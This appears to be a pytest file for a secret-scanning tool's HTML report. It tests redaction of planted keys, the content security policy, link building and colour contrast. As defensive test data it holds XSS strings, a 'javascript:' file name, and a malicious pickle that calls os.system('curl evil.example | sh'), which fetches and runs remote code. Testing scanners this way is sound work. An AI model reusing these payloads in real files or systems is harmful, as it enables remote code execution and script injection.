"""``--format html`` as a document: one self-contained, valid page whose embedded data is
the redacted scan, that no finding can break out of, with a link per location."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path

import html5lib
import pytest

from keyscope.cli import main
from keyscope.report.html import CSP, embedded_json, render_scan
from keyscope.scan import ScanOptions, scan
from keyscope.sources.weburl import web_base
from tests.sdk import NOW, incident_url, new_key

DATA = re.compile(r'<script type="application/json" id="keyscope-data">(.*?)</script>', re.S)
ENV = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1",
       "GIT_AUTHOR_NAME": "Alice", "GIT_AUTHOR_EMAIL": "alice@example.com",
       "GIT_COMMITTER_NAME": "Alice", "GIT_COMMITTER_EMAIL": "alice@example.com"}


def page_json(page: str) -> dict[str, object]:
    found = DATA.findall(page)
    assert len(found) == 1
    data: dict[str, object] = json.loads(found[0])
    return data


def strict_parse(page: str) -> None:
    """html5lib, strict: any parse error (a stray tag, a bad attribute…) raises."""
    html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(page)


def leaky_tree(root: Path, accounts: int) -> list[str]:
    """Files holding ``accounts`` account keys and an incident-shaped SAS: the secrets."""
    secrets = []
    root.mkdir(parents=True, exist_ok=True)
    lines = []
    for i in range(accounts):
        key = new_key()
        secrets.append(key)
        lines.append(f"STORAGE{i}=DefaultEndpointsProtocol=https;AccountName=leak{i:05d};"
                     f"AccountKey={key};EndpointSuffix=core.windows.net")
    (root / "settings.env").write_text("\n".join(lines) + "\n")
    url = incident_url("robustmodels", new_key())
    secrets.append(url.rsplit("sig=", 1)[1].split("&")[0])
    (root / "README.md").write_text(f"# Models\n\n    curl -o m.ckpt '{url}'\n")
    return secrets


def test_the_page_holds_no_secret_and_parses_without_error(tmp_path: Path) -> None:
    secrets = leaky_tree(tmp_path / "tree", 300)
    result = scan([str(tmp_path / "tree")], ScanOptions(jobs=1, now=NOW))
    assert len(result.findings) == 301
    page = render_scan(result)
    for secret in secrets:
        assert secret not in page
        # nor its percent-decoded form (a SAS signature is URL-encoded in the URL)
        assert secret.replace("%2B", "+").replace("%2F", "/").replace("%3D", "=") not in page
    strict_parse(page)
    data = page_json(page)
    assert len(data["findings"]) == 301  # type: ignore[arg-type]
    # no request of any kind: a CSP that forbids all but the inline style and script,
    # and no element that names an outside resource
    assert f'<meta http-equiv="Content-Security-Policy" content="{CSP}">' in page
    assert "default-src 'none'" in CSP
    outside = DATA.sub("", page)
    assert not re.search(r"<(?:link|img|iframe|object|embed|base)\b|\bsrc=|url\(", outside)


def test_a_finding_cannot_break_out_of_the_embedded_data(tmp_path: Path) -> None:
    key = new_key()
    hostile = "</script><script>alert(1)</script><!-- \u2028"
    (tmp_path / "x<!--<script>.env").write_text(
        f"S=DefaultEndpointsProtocol=https;AccountName=evil;AccountKey={key};"
        f"EndpointSuffix=core.windows.net # {hostile}\n")
    result = scan([str(tmp_path)], ScanOptions(jobs=1, now=NOW))
    page = render_scan(result)
    assert page.count("<script") == 2  # the data and the page's own script, nothing else
    block = DATA.findall(page)[0]
    assert "<" not in block and ">" not in block and "\u2028" not in block
    snippets = [loc["snippet"] for f in page_json(page)["findings"]  # type: ignore[attr-defined]
                for loc in f["locations"]]
    assert any("</script><script>alert" in s for s in snippets)  # intact, as data
    paths = [loc["path"] for f in page_json(page)["findings"]  # type: ignore[attr-defined]
             for loc in f["locations"]]
    assert paths == [str(tmp_path / "x<!--<script>.env")]
    # a path that reads as a URL scheme still links to the file
    (tmp_path / "x<!--<script>.env").rename(tmp_path / "javascript:alert(1)")
    result = scan([str(tmp_path)], ScanOptions(jobs=1, now=NOW))
    [f] = page_json(render_scan(result))["findings"]  # type: ignore[misc]
    [href] = [loc["href"] for loc in f["locations"]]
    assert href == (tmp_path / "javascript:alert(1)").as_uri() and href.startswith("file:///")
    assert key not in page
    strict_parse(page)
    assert json.loads(embedded_json({"a": "</x>&\u2029"})) == {"a": "</x>&\u2029"}


@pytest.mark.parametrize(("remote", "web"), [
    ("git@github.com:acme/web.git", "https://github.com/acme/web"),
    ("https://user:hunter2@gitlab.example.com/team/app.git", "https://gitlab.example.com/team/app"),
    ("ssh://git@github.com/acme/web", "https://github.com/acme/web"),
    ("/srv/git/web.git", None),
    ("file:///srv/git/web.git", None),
])
def test_a_remote_url_gives_the_repository_web_address(remote: str, web: str | None) -> None:
    assert web_base(remote) == web


def test_each_location_links_to_its_commit_on_the_web_else_the_file(tmp_path: Path) -> None:
    repo = tmp_path / "web"
    repo.mkdir()
    key = new_key()

    def git(*args: str) -> str:
        return subprocess.run(["git", "-C", str(repo), *args], env=ENV, check=True,
                              capture_output=True, text=True).stdout.strip()

    git("init", "-q", "-b", "main")
    git("remote", "add", "origin", "git@github.com:acme/web.git")
    (repo / "conf").mkdir()
    (repo / "conf" / "prod.env").write_text(f"\nAccountName=acmeprod\nAccountKey={key}\n")
    git("add", "-A")
    git("commit", "-q", "-m", "add config")
    commit = git("rev-parse", "HEAD")
    out = tmp_path / "report.html"
    code = main(["scan", "--now", "2026-11-26T00:00:00Z", "--format", "html", "-o", str(out),
                 str(repo)])
    assert code == 1  # findings
    page = out.read_text()
    hrefs = {loc["href"] for f in page_json(page)["findings"]  # type: ignore[attr-defined]
             for loc in f["locations"]}
    assert f"https://github.com/acme/web/blob/{commit}/conf/prod.env#L2" in hrefs

    # A folder that is no repository: the local file.
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "a.env").write_text(f"AccountName=acmeprod\nAccountKey={key}\n")
    out2 = tmp_path / "plain.html"
    main(["scan", "--now", "2026-11-26T00:00:00Z", "--format", "html", "-o", str(out2), str(plain)])
    hrefs = {loc["href"] for f in page_json(out2.read_text())["findings"]  # type: ignore[attr-defined]
             for loc in f["locations"]}
    assert hrefs == {(plain / "a.env").resolve().as_uri()}


def test_model_findings_say_what_would_run(tmp_path: Path) -> None:
    import pickle

    class Evil:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, ("curl evil.example | sh",))

    (tmp_path / "model.pkl").write_bytes(pickle.dumps(Evil()))
    out = tmp_path / "models.html"
    main(["models", "--format", "html", "-o", str(out), str(tmp_path)])
    data = page_json(out.read_text())
    [m] = data["model_findings"]  # type: ignore[misc]
    assert m["verdict"] == "executes-code"
    assert any("system" in d for d in m["details"])
    assert m["href"].endswith("/model.pkl")


def _luminance(hex_color: str) -> float:
    if len(hex_color) == 4:  # #abc
        hex_color = "#" + "".join(c * 2 for c in hex_color[1:])
    rgb = [int(hex_color[i:i + 2], 16) / 255 for i in (1, 3, 5)]
    lin = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in rgb]
    return 0.2126 * lin[0] + 0.7152 * lin[1] + 0.0722 * lin[2]


def contrast(a: str, b: str) -> float:
    hi, lo = sorted((_luminance(a), _luminance(b)), reverse=True)
    return (hi + 0.05) / (lo + 0.05)


def test_text_colours_have_enough_contrast_in_light_and_dark() -> None:
    """WCAG AA (4.5:1) for every text colour on the page and panel backgrounds, in the
    light scheme, the dark one (prefers-color-scheme) and print."""
    from importlib.resources import files

    css = files("keyscope.report").joinpath("assets", "report.css").read_text()
    schemes = [dict(re.findall(r"--([\w-]+):\s*(#[0-9a-f]{6}|#[0-9a-f]{3})\b", block))
               for block in re.findall(r":root\s*\{(.*?)\}", css, re.S)]
    assert len(schemes) == 3  # light, dark, print
    for colours in schemes:
        for text in ("fg", "muted", "link", "critical", "high", "medium", "low", "info"):
            for ground in ("bg", "panel"):
                assert contrast(colours[text], colours[ground]) >= 4.5, (text, ground, colours)
